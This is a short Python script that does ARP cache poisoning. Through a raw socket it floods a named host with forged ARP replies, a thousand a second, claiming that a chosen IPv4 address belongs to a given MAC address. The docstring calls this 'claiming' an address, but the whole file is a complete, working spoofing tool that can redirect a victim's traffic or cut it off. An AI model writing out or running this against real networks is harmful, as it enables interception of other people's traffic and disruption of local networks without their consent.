#!/usr/bin/env python3
"""Claims an IPv4 address on a link: arp.py INTERFACE ADDRESS MAC OWNER OWNER_MAC

Sends ARP replies that ADDRESS is at MAC to OWNER at OWNER_MAC, a thousand a second, until it is ended.
"""
import socket, struct, sys, time

interface, address, mac, owner, owner_mac = sys.argv[1:]


def link(text):
    return bytes.fromhex(text.replace(":", ""))


reply = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + link(mac) + socket.inet_aton(address)
frame = link(owner_mac) + link(mac) + b"\x08\x06" + reply + link(owner_mac) + socket.inet_aton(owner)
sender = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
sender.bind((interface, 0x0806))
print("ready", flush=True)
while True:
    sender.send(frame + b"\0" * (60 - len(frame)))
    time.sleep(0.001)
